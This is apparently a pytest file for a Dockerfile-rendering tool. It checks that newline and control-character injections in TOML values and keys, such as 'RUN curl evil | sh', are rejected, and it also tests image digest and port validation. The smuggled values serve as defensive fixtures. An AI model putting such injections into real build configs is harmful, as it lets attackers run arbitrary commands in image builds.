"""What build.py reads cannot reshape the Dockerfiles it renders, and its reference and folder checks
say what is wrong before Docker does."""

from __future__ import annotations

from pathlib import Path

import pytest

from prebake.errors import PrebakeError
from prebake.references import reference_problem, registry_problem
from prebake.render import render
from prebake.variants import load_variants
from prebake_testing.buildpy import run_build_py


def _append(path: Path, text: str) -> None:
    path.write_text(path.read_text() + text)


@pytest.mark.parametrize("file, addition, needle", [
    ("tiny.toml", '[host.env]\nA = "1\\nRUN curl evil | sh"\n', "key 'host.env.A' holds the control character U+000A"),
    ("tiny.toml", '[host.env]\n"B\\nRUN x" = "1"\n', "U+000A"),
    ("tiny.toml", '[host.env]\n"A B" = "1"\n', "key 'host.env.A B' is not an environment variable name"),
    ("tiny.toml", '["x\\ny"]\na = 1\n', "the key or table name 'x\\ny'"),
    ("tiny.toml", '[stack]\nos_packages = ["tini \\\\", "RUN evil"]\n', "key 'stack.os_packages' holds 'tini \\\\'"),
    ("tiny.toml", '[stack]\ncuda = "13.0 && evil"\n', "key 'stack.cuda' must be a CUDA release"),
])
def test_no_toml_value_key_or_table_name_reshapes_the_dockerfile(images_dir, file, addition, needle):
    path = images_dir / file
    _append(path, addition)
    with pytest.raises(PrebakeError) as error:
        load_variants(images_dir)
    assert str(error.value).startswith(str(path)) and needle in str(error.value), str(error.value)


@pytest.mark.parametrize("file, line, changed, needle", [
    ("tiny.toml", "NCCL_P2P_DISABLE = 1", 'NCCL_P2P_DISABLE = "1\\r"', "key 'host.nccl.NCCL_P2P_DISABLE' holds the "
                                                                    "control character U+000D"),
    ("tiny.toml", 'VL_MODEL = "ornith"', 'VL_MODEL = "a\\u2028b"', "key 'launch.VL_MODEL' holds the control "
                                                                  "character U+2028"),
    ("tiny.toml", 'description = "', 'description = "x\\nRUN evil #', "key 'description' holds the control "
                                                                     "character U+000A"),
    ("common.toml", 'VL_PORT = "8080"', 'VL_PORT = "80\\u0000"', "key 'launch.VL_PORT' holds the control"),
])
def test_a_changed_value_cannot_reshape_it_either(images_dir, file, line, changed, needle):
    path = images_dir / file
    assert line in path.read_text()
    path.write_text(path.read_text().replace(line, changed, 1))
    with pytest.raises(PrebakeError) as error:
        load_variants(images_dir)
    assert str(error.value).startswith(str(path)) and needle in str(error.value), str(error.value)


def test_rendered_dockerfiles_of_the_fixtures_keep_their_instructions(images_dir):
    for variant in load_variants(images_dir).values():
        rendered = render(variant, without=("cuda-compat",))
        for text in (rendered.stack, rendered.variant):
            assert "RUN evil" not in text


@pytest.mark.parametrize("ref, needle", [
    ("x@md5:" + "a" * 32, "digest algorithm 'md5'"),
    ("x@sha1:" + "a" * 40, "digest algorithm 'sha1'"),
    ("x@sha256:" + "a" * 63, "has 64 hex digits, this one 63"),
    ("localhost:99999/x", "port 99999"),
    ("localhost:0/x:tag", "port 0"),
])
def test_reference_checks_catch_unknown_digests_and_ports_out_of_range(ref, needle):
    assert needle in (reference_problem(ref) or "")


def test_known_digests_and_ports_pass():
    for ref in ("x@sha256:" + "a" * 64, "x@sha512:" + "b" * 128, "127.0.0.1:5000/x:t", "[::1]:65535/x"):
        assert reference_problem(ref) is None, ref
    assert "port 70000" in registry_problem("localhost:70000/owner")


def test_images_dir_naming_a_file_says_so(tmp_path):
    named = tmp_path / "images.toml"
    named.write_text("")
    with pytest.raises(PrebakeError, match="is a file, not a folder"):
        load_variants(named)
    result = run_build_py("list", "--images-dir", str(named))
    assert result.returncode == 1 and "is a file, not a folder" in result.stderr and "Traceback" not in result.stderr
